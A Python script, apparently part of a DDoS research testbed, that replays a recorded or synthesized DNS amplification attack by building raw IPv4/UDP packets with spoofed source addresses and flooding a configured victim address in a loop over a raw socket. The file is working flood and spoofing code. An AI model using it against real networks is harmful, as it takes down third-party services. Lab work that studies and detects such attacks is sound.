"""Amplification, replayed: the datagrams of a recorded attack, with their sources, sent to the victim over and over."""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from collections.abc import Sequence
from pathlib import Path

from skerry.network.flows.packets.capture import read_capture
from skerry.network.flows.packets.headers import read_headers
from skerry.testbed.experiments.ddos_loop.saying import say
from skerry.testbed.experiments.ddos_loop.star import VICTIM

MOST = 5000
MTU_BYTES = 1500
HEADERS_BYTES = 28
_UDP = 17
# Where there is no recording: answers of name servers, as long as those of an amplification are.
MADE_SOURCES, MADE_BYTES = 500, (400, 1400)


def read_datagrams(path: Path) -> list[bytes]:
    """Return the IP packets of the IPv4 datagrams of a capture, with the victim as their destination."""
    found = []
    for frame in read_capture(path):
        header = read_headers([frame.data], [frame.link])[0]
        if header["family"] != 4 or header["protocol"] != _UDP or not header["payload"]:
            continue
        source = int(header["source"]["low"] & 0xFFFFFFFF).to_bytes(4, "big")
        payload = frame.data[int(header["payload"]) :]
        # What the capture has cut off is sent as zeros: the length is what fills a link.
        wanted = min(max(int(header["ip_bytes"]) - HEADERS_BYTES, 0), MTU_BYTES - HEADERS_BYTES)
        payload = payload[:wanted].ljust(wanted, b"\0")
        found.append(_packet(source, int(header["source_port"]), int(header["destination_port"]), payload))
        if len(found) == MOST:
            break
    return found


def make_datagrams(seed: int) -> list[bytes]:
    """Return datagrams as open name servers would send them."""
    draw = random.Random(seed)
    sources = [struct.pack("!I", draw.randrange(0x20000000, 0x60000000)) for _ in range(MADE_SOURCES)]
    return [
        _packet(draw.choice(sources), 53, draw.randrange(1024, 65536), bytes(draw.randrange(*MADE_BYTES)))
        for _ in range(MOST)
    ]


def send(packets: Sequence[bytes], per_s: float) -> None:
    """Send packets, one after the other and from the first again, until interrupted."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        began_s, sent = time.monotonic(), 0
        while True:
            raw.sendto(packets[sent % len(packets)], (VICTIM, 0))
            sent += 1
            ahead_s = sent / per_s - (time.monotonic() - began_s)
            if ahead_s > 0.002:
                time.sleep(ahead_s)


def _packet(source: bytes, source_port: int, port: int, payload: bytes) -> bytes:
    # The kernel fills in the checksum of the IP header; a datagram of IPv4 needs none of its own.
    length = 8 + len(payload)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, _UDP, 0) + source + socket.inet_aton(VICTIM)
    return head + struct.pack("!HHHH", source_port, port, length, 0) + payload


def main() -> None:
    """Replay until interrupted."""
    settings = json.loads(sys.argv[1])
    path = Path(settings["capture"]) if settings["capture"] else None
    packets = read_datagrams(path) if path is not None else make_datagrams(1)
    say(ready=True)
    try:
        send(packets, settings["per_s"])
    except KeyboardInterrupt:
        sys.exit(0)


if __name__ == "__main__":
    main()
